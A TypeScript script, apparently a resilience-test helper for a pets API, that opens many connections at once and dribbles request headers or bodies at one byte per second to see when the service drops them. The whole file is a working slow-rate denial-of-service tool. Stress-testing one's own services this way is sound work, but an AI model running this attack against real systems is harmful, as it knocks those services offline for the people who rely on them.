/**
 * A process of its own that attacks by being slow: opens many connections at once, on each sends a byte a second of the
 * head of a request, or of its body, and says when the service closed them.
 */
import { connect, type Socket } from 'node:net';
import { setTimeout as sleep } from 'node:timers/promises';

const [, , url = '', key = '', sockets = '', kind = ''] = process.argv;
const { hostname, port } = new URL(url);
const BYTE_INTERVAL_MS = 1_000;
/** Connections opened in one turn: more would overflow the listener's backlog. */
const BURST = 100;
const HEAD = 'GET /v1/pets HTTP/1.1\r\nHost: x\r\nX-Slow: ';
/** With a valid key: without one it would be refused before its body. */
const BODY = `POST /v1/pets HTTP/1.1\r\nHost: x\r\nAuthorization: Bearer ${key}\r\nContent-Type: application/json\r\nContent-Length: 60000\r\n\r\n{`;

interface Slow {
  readonly socket: Socket;
  /** How long the service let it live, in milliseconds; a refusal of the first moment included. */
  readonly lived: Promise<number>;
}

function open(opening: string): Slow {
  // A connection that overflows the backlog of the listener is tried again by the client's kernel, after a second.
  let openedAt = performance.now();
  const socket = connect({ host: hostname, port: Number(port) }, () => {
    openedAt = performance.now();
    socket.write(opening);
  });
  socket.on('error', () => undefined);
  // The service's answer, if it has one, is not read: an attacker does not care.
  socket.resume();
  const lived = new Promise<number>((resolve) =>
    socket.once('close', () => resolve(performance.now() - openedAt)),
  );
  return { socket, lived };
}

async function openAll(count: number, opening: string): Promise<Slow[]> {
  const all: Slow[] = [];
  while (all.length < count) {
    for (let at = 0; at < BURST && all.length < count; at += 1) all.push(open(opening));
    await sleep(5);
  }
  return all;
}

void (async () => {
  const all = await openAll(Number(sockets), kind === 'bodies' ? BODY : HEAD);
  const drip = setInterval(() => {
    for (const { socket } of all) if (!socket.destroyed) socket.write('x');
  }, BYTE_INTERVAL_MS);
  const lives = await Promise.all(all.map(({ lived }) => lived));
  clearInterval(drip);
  process.stdout.write(
    `${JSON.stringify({ shortestMs: Math.min(...lives), longestMs: Math.max(...lives), count: lives.length })}\n`,
  );
})();
